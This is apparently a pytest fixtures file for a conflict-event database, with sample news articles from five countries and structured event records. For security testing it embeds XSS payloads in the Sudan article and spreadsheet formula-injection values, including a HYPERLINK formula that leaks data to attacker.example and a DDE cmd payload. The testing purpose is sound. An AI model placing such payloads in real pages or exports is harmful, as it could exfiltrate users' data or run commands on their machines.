"""Shared fixtures: a small hand-built store of articles and events (no extraction pipeline needed)."""

from __future__ import annotations

import datetime as dt
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from observatory.models import (
    ActorRef,
    Attribution,
    DateSpan,
    Document,
    DocumentResult,
    Event,
    Evidence,
    Location,
    Quantity,
)
from observatory.store.ingest import Store

XSS_SCRIPT = "<script>window.__xss=1</script>"
XSS_IMG = '<img src=x onerror="window.__xss=2">'

# A report whose text fields start with what spreadsheets run as formulas, placed south and west of 0/0.
FORMULA_TEXT = "-2 dead. Police said =HYPERLINK gunmen killed two people in Lima on Monday."
FORMULA_CELLS = {
    "source": '=HYPERLINK("http://attacker.example/?leak="&A1,"Reuters")',
    "notes": FORMULA_TEXT,
    "actor1": "+Unidentified Armed Group",
    "actor2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "location": "\tLima",
    "admin1": "\rLima",
    "claimant": "=1+1",
}

SYRIA = (
    "IDLIB, Syria - Syrian government forces shelled villages near Idlib on Monday, killing four civilians, "
    "local medics said. A day later, Hayat Tahrir al-Sham fighters attacked an army post outside Saraqib "
    "and two soldiers died in the clash. Residents said they feared a new offensive could follow."
)
NIGERIA = (
    "MAIDUGURI, Nigeria - Suspected Boko Haram fighters abducted 20 students from a school in Borno State "
    "on Tuesday, police said. The army said troops later arrested three suspects near Konduga."
)
KENYA = (
    "NAIROBI - Thousands of protesters marched through central Nairobi on Tuesday against a proposed "
    "finance bill. Police fired tear gas and live rounds, and at least five people were killed, a rights "
    "group said. In Mombasa, hundreds of traders held a peaceful sit-in outside the county offices."
)
UKRAINE = (
    "KHARKIV, Ukraine - A Russian missile struck a printing house in Kharkiv on Thursday, killing seven "
    "workers and injuring 21, the regional governor said. Officials said a second missile aimed at the "
    "city was shot down by air defences."
)
SUDAN = (
    "KHARTOUM - Rapid Support Forces fighters looted the central market in Omdurman on Friday "
    f"{XSS_SCRIPT} and set shops on fire, witnesses said. {XSS_IMG} Clashes with the army "
    "continued in Bahri."
)


def actor(name: str, inter: int, country: str | None = None, sector: str | None = None) -> ActorRef:
    """An actor reference whose text is its name."""
    return ActorRef(text=name, name=name, country=country, sector=sector, acled_inter=inter)


def place(name: str, lat: float, lon: float, country: str, admin1: str) -> Location:
    """A town-level location."""
    return Location(text=name, name=name, lat=lat, lon=lon, country=country, admin1=admin1, precision=1)


def event(text: str, sentence: str, **fields: object) -> Event:
    """An event whose evidence is ``sentence``, located in ``text`` (it must occur there)."""
    start = text.index(sentence)
    day = fields.pop("day", None)
    if isinstance(day, dt.date):
        fields["date"] = DateSpan(start=day, end=day)
    for key in ("fatalities", "injured", "abducted", "arrested", "participants"):
        if isinstance(fields.get(key), int):
            fields[key] = Quantity(low=fields[key], best=fields[key], high=fields[key])
    return Event(evidence=Evidence(text=sentence, start=start, end=start + len(sentence)), **fields)


def sample_batch() -> list[tuple[Document, DocumentResult]]:
    """Five articles with twelve events over five countries; the Sudan one carries injected HTML."""
    syr_army = actor("Military Forces of Syria", 1, "SYR", "MIL")
    idlib = place("Idlib", 35.93, 36.63, "SYR", "Idlib")
    syria = [
        event(
            SYRIA,
            "IDLIB, Syria - Syrian government forces shelled villages near Idlib on Monday, killing "
            "four civilians, local medics said.",
            plover_type="ASSAULT",
            plover_mode="heavy-weapons",
            acled_event_type="Explosions/Remote violence",
            acled_sub_event_type="Shelling/artillery/missile attack",
            actors=[syr_army],
            recipients=[actor("Civilians (Syria)", 7, "SYR", "CVL")],
            location=idlib,
            day=dt.date(2024, 3, 11),
            fatalities=4,
            attribution=Attribution(claimant="local medics", text="local medics said"),
            confidence=0.9,
        ),
        event(
            SYRIA,
            "A day later, Hayat Tahrir al-Sham fighters attacked an army post outside Saraqib and two "
            "soldiers died in the clash.",
            plover_type="ASSAULT",
            plover_mode="firearms",
            acled_event_type="Battles",
            acled_sub_event_type="Armed clash",
            actors=[actor("Hayat Tahrir al-Sham", 2, "SYR", "REB")],
            recipients=[syr_army],
            location=place("Saraqib", 35.86, 36.80, "SYR", "Idlib"),
            day=dt.date(2024, 3, 12),
            fatalities=2,
            confidence=0.8,
        ),
        event(
            SYRIA,
            "Residents said they feared a new offensive could follow.",
            plover_type="THREATEN",
            plover_mode="violence",
            status="hypothetical",
            confidence=0.4,
        ),
    ]
    borno = dict(country="NGA", admin1="Borno")
    nigeria = [
        event(
            NIGERIA,
            "MAIDUGURI, Nigeria - Suspected Boko Haram fighters abducted 20 students from a school in "
            "Borno State on Tuesday, police said.",
            plover_type="ASSAULT",
            plover_mode="abduct",
            acled_event_type="Violence against civilians",
            acled_sub_event_type="Abduction/forced disappearance",
            actors=[actor("Boko Haram", 2, "NGA", "REB")],
            recipients=[actor("Students (Nigeria)", 7, "NGA", "EDU")],
            location=place("Maiduguri", 11.85, 13.16, **borno),
            day=dt.date(2024, 4, 2),
            abducted=20,
            attribution=Attribution(claimant="police", text="police said"),
        ),
        event(
            NIGERIA,
            "The army said troops later arrested three suspects near Konduga.",
            plover_type="COERCE",
            plover_mode="arrest",
            acled_event_type="Strategic developments",
            acled_sub_event_type="Arrests",
            actors=[actor("Military Forces of Nigeria", 1, "NGA", "MIL")],
            location=place("Konduga", 11.65, 13.42, **borno),
            day=dt.date(2024, 4, 3),
            arrested=3,
        ),
    ]
    nairobi = place("Nairobi", -1.29, 36.82, "KEN", "Nairobi")
    kenya = [
        event(
            KENYA,
            "NAIROBI - Thousands of protesters marched through central Nairobi on Tuesday against a "
            "proposed finance bill.",
            plover_type="PROTEST",
            plover_mode="demo-org",
            acled_event_type="Protests",
            acled_sub_event_type="Protest with intervention",
            actors=[actor("Protesters (Kenya)", 6, "KEN", "PRO")],
            location=nairobi,
            day=dt.date(2024, 6, 25),
            participants=3000,
        ),
        event(
            KENYA,
            "Police fired tear gas and live rounds, and at least five people were killed, a rights group "
            "said.",
            plover_type="ASSAULT",
            plover_mode="firearms",
            acled_event_type="Protests",
            acled_sub_event_type="Excessive force against protesters",
            actors=[actor("Police Forces of Kenya", 1, "KEN", "COP")],
            recipients=[actor("Protesters (Kenya)", 6, "KEN", "PRO")],
            location=nairobi,
            day=dt.date(2024, 6, 25),
            fatalities=5,
        ),
        event(
            KENYA,
            "In Mombasa, hundreds of traders held a peaceful sit-in outside the county offices.",
            plover_type="PROTEST",
            plover_mode="demo-org",
            acled_event_type="Protests",
            acled_sub_event_type="Peaceful protest",
            actors=[actor("Traders (Kenya)", 6, "KEN", "BUS")],
            location=place("Mombasa", -4.04, 39.67, "KEN", "Mombasa"),
            day=dt.date(2024, 6, 25),
        ),
    ]
    kharkiv = place("Kharkiv", 49.99, 36.23, "UKR", "Kharkiv")
    russia = actor("Military Forces of Russia", 8, "RUS", "MIL")
    ukraine = [
        event(
            UKRAINE,
            "KHARKIV, Ukraine - A Russian missile struck a printing house in Kharkiv on Thursday, "
            "killing seven workers and injuring 21, the regional governor said.",
            plover_type="ASSAULT",
            plover_mode="heavy-weapons",
            acled_event_type="Explosions/Remote violence",
            acled_sub_event_type="Shelling/artillery/missile attack",
            actors=[russia],
            recipients=[actor("Civilians (Ukraine)", 7, "UKR", "CVL")],
            location=kharkiv,
            day=dt.date(2024, 5, 23),
            fatalities=7,
            injured=21,
        ),
        event(
            UKRAINE,
            "Officials said a second missile aimed at the city was shot down by air defences.",
            plover_type="ASSAULT",
            plover_mode="heavy-weapons",
            acled_event_type="Explosions/Remote violence",
            acled_sub_event_type="Shelling/artillery/missile attack",
            actors=[russia],
            location=kharkiv,
            day=dt.date(2024, 5, 23),
            status="failed",
        ),
    ]
    rsf = actor("Rapid Support Forces", 2, "SDN", "REB")
    sudan = [
        event(
            SUDAN,
            f"KHARTOUM - Rapid Support Forces fighters looted the central market in Omdurman on Friday "
            f"{XSS_SCRIPT} and set shops on fire, witnesses said.",
            plover_type="COERCE",
            plover_mode="destroy",
            acled_event_type="Strategic developments",
            acled_sub_event_type="Looting/property destruction",
            actors=[rsf],
            location=place("Omdurman", 15.64, 32.48, "SDN", "Khartoum"),
            day=dt.date(2024, 2, 9),
            attribution=Attribution(claimant="witnesses", text="witnesses said"),
        ),
        event(
            SUDAN,
            f"{XSS_IMG} Clashes with the army continued in Bahri.",
            plover_type="ASSAULT",
            plover_mode="firearms",
            acled_event_type="Battles",
            acled_sub_event_type="Armed clash",
            actors=[rsf],
            recipients=[actor("Military Forces of Sudan", 1, "SDN", "MIL")],
            day=dt.date(2024, 2, 9),
        ),
    ]
    docs = [
        (
            Document(
                id="syria-1",
                text=SYRIA,
                title="Shelling kills four in Idlib",
                published=dt.date(2024, 3, 12),
                source="Levant Wire",
                url="https://example.org/syria-1",
            ),
            syria,
        ),
        (
            Document(
                id="nigeria-1",
                text=NIGERIA,
                title="Students abducted in Borno",
                published=dt.date(2024, 4, 3),
                source="Sahel Daily",
            ),
            nigeria,
        ),
        (
            Document(
                id="kenya-1",
                text=KENYA,
                title="Five killed as finance bill protests spread",
                published=dt.date(2024, 6, 25),
                source="East Africa Post",
            ),
            kenya,
        ),
        (
            Document(
                id="ukraine-1",
                text=UKRAINE,
                title="Missile strike on Kharkiv printing house",
                published=dt.date(2024, 5, 24),
                source="Kyiv Ledger",
            ),
            ukraine,
        ),
        (
            Document(
                id="sudan-1",
                text=SUDAN,
                title=f"Market looted {XSS_SCRIPT}",
                published=dt.date(2024, 2, 10),
                source="Nile Observer",
            ),
            sudan,
        ),
    ]
    return [(doc, DocumentResult(id=doc.id, events=events)) for doc, events in docs]


@pytest.fixture
def sample_db(tmp_path: Path) -> Path:
    """A store with the sample batch: 5 articles, 12 events (10 occurred, 1 failed, 1 hypothetical)."""
    path = tmp_path / "sample.duckdb"
    with Store(path) as store:
        store.add_batch(sample_batch())
    return path


@pytest.fixture
def formula_db(tmp_path: Path) -> Path:
    """A store with one event whose text cells all start with a formula trigger."""
    cells = FORMULA_CELLS
    lima = place(cells["location"], -12.05, -77.04, "PER", cells["admin1"])
    found = event(
        FORMULA_TEXT,
        FORMULA_TEXT,
        plover_type="ASSAULT",
        acled_event_type="Violence against civilians",
        acled_sub_event_type="Attack",
        actors=[actor(cells["actor1"], 3, "PER")],
        recipients=[actor(cells["actor2"], 7, "PER")],
        location=lima,
        day=dt.date(2024, 7, 1),
        fatalities=2,
        attribution=Attribution(claimant=cells["claimant"], text="police said"),
    )
    doc = Document(id="lima", text=FORMULA_TEXT, source=cells["source"], published=dt.date(2024, 7, 2))
    path = tmp_path / "formula.duckdb"
    with Store(path) as store:
        store.add_batch([(doc, DocumentResult(id=doc.id, events=[found]))])
    return path


PG_ENV = "OBSERVATORY_TEST_PG"


def pg_schema_url() -> Iterator[str]:
    """A URL to a fresh, empty schema of the PostgreSQL test server, dropped afterwards. Without the
    server (``source scripts/start_postgres.sh`` sets OBSERVATORY_TEST_PG) the test is skipped, or fails
    under CI."""
    import psycopg

    base = os.environ.get(PG_ENV)
    if not base:
        message = f"{PG_ENV} is not set: `source scripts/start_postgres.sh` starts a test PostgreSQL server"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    schema = f"t_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(base, autocommit=True) as admin:
        admin.execute(f"CREATE SCHEMA {schema}")
        separator = "&" if "?" in base else "?"
        yield f"{base}{separator}options={quote(f'-csearch_path={schema}')}"
        admin.execute(f"DROP SCHEMA {schema} CASCADE")
